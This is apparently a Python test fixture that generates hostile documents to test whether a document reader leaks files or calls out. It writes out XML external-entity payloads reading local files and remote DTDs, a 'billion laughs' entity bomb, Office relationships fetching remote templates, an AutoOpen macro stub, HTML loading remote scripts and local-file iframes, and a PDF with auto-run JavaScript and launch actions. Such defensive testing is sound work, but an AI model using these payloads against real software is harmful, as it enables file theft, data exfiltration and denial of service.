"""Files that try to reach out: to a file of this machine, to a machine elsewhere, to a program that runs them.

Each holds a whole protocol besides, so that it would be read; ``{address}`` is where a connection would be noticed,
``{path}`` a file whose content must not appear.
"""

from html import escape

from tests.reading import documents, making

_ENTITIES = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY local SYSTEM "file://{path}"><!ENTITY far SYSTEM "{address}/e.dtd">'
    '<!ENTITY % outside SYSTEM "{address}/p.dtd"> %outside;]>'
)
_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    + "]>"
)
_LINKS = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
_RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" TargetMode="External" Target="{address}/template.dotm" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
    '<Relationship Id="r2" TargetMode="External" Target="{address}/picture.png" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"/>'
    '<Relationship Id="r3" TargetMode="External" Target="file://{path}" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk"/></Relationships>'
)


def _paragraphs() -> str:
    return "".join(making.para(escape(text)) for _, text in documents.PROTOCOL)


def _lines() -> str:
    return "".join(f"<text:p>{escape(text)}</text:p>" for _, text in documents.PROTOCOL)


def all_of(address: str, path: str) -> dict[str, bytes]:
    """Every hostile file, by what it tries."""
    entities = _ENTITIES.replace("{address}", address).replace("{path}", path)
    relations = _RELATIONS.replace("{address}", address).replace("{path}", path)
    drawn = '<w:p><w:r><w:drawing><w:x r:link="r2"/></w:drawing></w:r></w:p><w:altChunk r:id="r3"/>'
    utf16 = (entities.replace('"1.0"', '"1.0" encoding="utf-16"') + "<x>&local;</x>").encode("utf-16")
    return {
        "docx with entities": making.docx(_paragraphs() + making.para("&local;&far;"), before=entities),
        "docx with entities in its numbers": making.docx(
            _paragraphs(), more={"word/numbering.xml": f"{entities}<x>&local;</x>"}
        ),
        "docx with entities in two bytes a letter": making.docx("", more={"word/document.xml": utf16}),
        "docx that laughs": making.docx(_paragraphs() + making.para("&a11;"), before=_LAUGHS),
        "docx with a template, a picture and a part from elsewhere": making.docx(
            _paragraphs() + drawn, more={"word/_rels/document.xml.rels": relations}
        ),
        "docx whose document is elsewhere": making.docx(
            _paragraphs(), more={"_rels/.rels": relations.replace("attachedTemplate", "officeDocument")}
        ),
        "docm": making.docx(_paragraphs(), more={"word/vbaProject.bin": b"Sub AutoOpen(): Shell"}),
        "odt with entities": making.odt(f"{_lines()}<text:p>&local;&far;</text:p>", before=entities),
        "odt that laughs": making.odt(f"{_lines()}<text:p>&a11;</text:p>", before=_LAUGHS),
        "odt with pictures and sections from elsewhere": making.odt(
            f"{_lines()}<text:p><draw:frame><draw:image {_LINKS} xlink:href='{address}/a.png'/></draw:frame></text:p>"
            f"<text:section><text:section-source {_LINKS} xlink:href='file://{path}'/></text:section>"
        ),
        "web page that loads and runs": _page(address, path),
        "web page with entities": (
            f"{entities}<html><body>{_html()}<p>&local; &far;</p></body></html>".encode()
        ),
        "pdf that acts": _acting_pdf(address, path),
        "markdown with pictures": (
            f"# Protocol\n\n![a]({address}/a.png)\n\n<img src='{address}/b.png'>\n\n".encode()
            + documents.as_text()
        ),
    }


def _html() -> str:
    return "".join(f"<p>{escape(text)}</p>" for _, text in documents.PROTOCOL)


def _page(address: str, path: str) -> bytes:
    return (
        f"<!doctype html><html><head><link rel=stylesheet href='{address}/a.css'><base href='{address}/'>"
        f"<meta http-equiv=refresh content='0;url={address}/b'><script src='{address}/c.js'></script></head>"
        f"<body>{_html()}<img src='{address}/d.png'><iframe src='file://{path}'></iframe>"
        f"<object data='{address}/e'></object><p style='display:none'>Hidden words</p></body></html>"
    ).encode()


def _acting_pdf(address: str, path: str) -> bytes:
    rows = [(60, 800 - 14 * n, text[:90]) for n, (_, text) in enumerate(documents.PROTOCOL)]
    catalog = (
        f"/OpenAction << /S /JavaScript /JS (app.launchURL\\('{address}/js'\\)) >> /AA << /WC << /S /Launch "
        f"/F ({path}) >> >> /URI << /Base ({address}/) >> /Names << /EmbeddedFiles << /Names [(a.exe) "
        f"<< /Type /Filespec /F ({path}) >>] >> >>"
    )
    return making.pdf(rows, catalog=catalog)
